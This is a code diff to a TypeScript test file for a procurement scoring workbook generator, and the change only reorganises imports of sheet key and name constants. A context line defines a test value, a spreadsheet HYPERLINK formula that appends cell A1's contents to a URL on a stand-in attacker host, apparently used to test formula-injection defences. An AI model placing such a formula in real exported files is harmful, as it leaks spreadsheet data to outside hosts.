@@ -9,7 +9,8 @@ import { scoreProcurement } from '../domain/scoring';
 import { scoringInputOf } from '../domain/scoring-input';
 import { buildScoringWorkbook, type ScoringWorkbookInput } from './scoring-workbook';
 import { scenarioBundle, TIED, WORKED_EXAMPLE } from '$lib/testing/scoring-workbook';
-import { SHEET_KEYS, SHEET_NAMES } from './scoring-workbook-labels';
+import { WORKBOOK_SHEETS as SHEET_KEYS } from '$lib/i18n/workbook-labels';
+import { SHEET_NAMES } from './scoring-workbook-sheet';
 
 const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 
